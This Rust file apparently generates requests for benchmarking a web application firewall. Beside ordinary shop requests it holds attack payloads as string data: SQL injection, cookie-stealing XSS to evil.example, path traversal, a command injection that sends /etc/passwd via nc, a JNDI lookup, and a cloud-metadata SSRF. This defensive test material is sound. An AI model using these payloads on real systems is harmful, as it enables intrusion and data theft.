//! The requests that are measured: ordinary ones of several sizes, long text, and attacks.

use std::fmt::Write;

/// Name and JSON of every request.
pub fn all() -> Vec<(&'static str, String)> {
    vec![
        ("tiny GET", tiny_get()),
        ("typical GET", typical_get()),
        ("form", form()),
        ("JSON 1 KB", json(1_000)),
        ("JSON 10 KB", json(10_000)),
        ("JSON 100 KB", json(100_000)),
        ("text 100 KB", text(100_000)),
        ("attack: SQL injection", attack("1' UNION SELECT password, 2 FROM users WHERE '1'='1")),
        ("attack: XSS", attack("<script>document.location='//evil.example/'+document.cookie</script>")),
        ("attack: path traversal", attack("../../../../../../etc/passwd")),
        ("attack: command", attack("; cat /etc/passwd | nc 203.0.113.9 4444")),
        ("attack: Java look-up", attack("${jndi:ldap://evil.example/a}")),
        ("attack: scanner", scanner()),
        ("fingerprints and schema", schema()),
        (
            "exploit: SQL",
            exploit("server.db.statement", "SELECT name FROM users WHERE id='1' OR '1'='1'", "1' OR '1'='1"),
        ),
        ("exploit: file", exploit("server.io.fs.file", "/var/www/uploads/../../../etc/passwd", "../../../etc/passwd")),
        (
            "exploit: URL",
            exploit("server.io.net.url", "http://169.254.169.254/latest/meta-data/", "169.254.169.254/latest"),
        ),
    ]
}

const BROWSER: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";

fn tiny_get() -> String {
    format!(
        r#"{{"server.request.method":"GET","server.request.uri.raw":"/health","http.client_ip":"203.0.113.7",
        "server.request.query":{{}},"server.request.headers.no_cookies":{{"host":"shop.example","accept":"*/*",
        "user-agent":"{BROWSER}"}}}}"#
    )
}

fn get(path: &str, query: &str) -> String {
    format!(
        r#"{{"server.request.method":"GET","server.request.uri.raw":"{path}","http.client_ip":"203.0.113.7",
        "server.request.query":{query},
        "server.request.path_params":{{"category":"garden","page":"3"}},
        "server.request.cookies":{{"session":["2f6c1f6e9d1b4a35b1c4a7b7a2c0d9ee"],"theme":["dark"],"_ga":["GA1.2.2635909.17032"]}},
        "server.request.headers.no_cookies":{{"host":"shop.example","user-agent":"{BROWSER}",
        "accept":"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
        "accept-language":"en-GB,en;q=0.9,de;q=0.8","accept-encoding":"gzip, deflate, br","connection":"keep-alive",
        "referer":"https://shop.example/garden?page=2","upgrade-insecure-requests":"1","sec-fetch-dest":"document",
        "sec-fetch-mode":"navigate","sec-fetch-site":"same-origin","cache-control":"max-age=0",
        "x-forwarded-for":"203.0.113.7, 198.51.100.2"}}}}"#
    )
}

/// About 1.2 KB: what a browser sends.
pub fn typical_get() -> String {
    get(
        "/garden?page=3&sort=price&q=garden+hose+25m",
        r#"{"page":["3"],"sort":["price"],"q":["garden hose 25m"],"utm_source":["newsletter"],"utm_campaign":["spring-sale"]}"#,
    )
}

fn attack(payload: &str) -> String {
    let payload = payload.replace('\\', "\\\\").replace('"', "\\\"");
    get("/garden?q=...", &format!(r#"{{"page":["3"],"q":["{payload}"]}}"#))
}

fn scanner() -> String {
    typical_get().replace(BROWSER, "sqlmap/1.8.2#stable (https://sqlmap.org)")
}

fn with_body(body: &str) -> String {
    let request = typical_get().replace(r#""server.request.method":"GET""#, r#""server.request.method":"POST""#);
    format!(r#"{},"server.request.body":{body}}}"#, request.trim_end_matches('}'))
        .replace(r#"198.51.100.2""#, r#"198.51.100.2"}"#)
}

fn form() -> String {
    with_body(
        r#"{"first_name":["Maria"],"last_name":["O'Brien"],"email":["maria.obrien@mail.example"],"street":["12 St. John's Road"],
        "city":["Galway"],"country":["IE"],"phone":["+353 91 555 0134"],"newsletter":["on"],
        "comment":["Please leave the parcel with the neighbours (no. 14) if nobody is in; the bell doesn't always work."]}"#,
    )
}

/// Records as a shop's interface would send them, about this many bytes.
fn json(bytes: usize) -> String {
    let mut body = String::from("{\"orders\":[");
    let mut n = 0;
    while body.len() + 2 < bytes {
        n += 1;
        let comma = if n == 1 { "" } else { "," };
        let _ = write!(
            body,
            r#"{comma}{{"id":{n},"sku":"GH-{:05}","title":"Garden hose {} m, {}","price":{}.95,"in_stock":{},"tags":["garden","water","offer-{}"],"address":{{"street":"{} High Street","city":"Springfield","zip":"{:05}"}},"note":"Deliver between {} and {} o'clock, thanks"}}"#,
            n * 37 % 99_999,
            n % 50,
            ["green", "blue", "yellow"][n % 3],
            n % 90,
            n % 2 == 0,
            n % 7,
            n % 200,
            n * 7919 % 99_999,
            n % 12,
            n % 12 + 1
        );
    }
    body.push_str("]}");
    with_body(&body)
}

fn text(bytes: usize) -> String {
    let sentence = "The committee will meet again on Thursday to select the union's new office; everyone is welcome. ";
    with_body(&format!(r#"{{"text":"{}"}}"#, sentence.repeat(bytes / sentence.len())))
}

fn schema() -> String {
    let request = json(10_000);
    format!(r#"{},"waf.context.processor":{{"extract-schema":true}}}}"#, &request[..request.len() - 1])
}

fn exploit(address: &str, resource: &str, parameter: &str) -> String {
    let request = get("/garden?q=...", &format!(r#"{{"page":["3"],"q":["{parameter}"]}}"#));
    format!(r#"{},"server.db.system":"postgresql","{address}":"{resource}"}}"#, &request[..request.len() - 1])
}
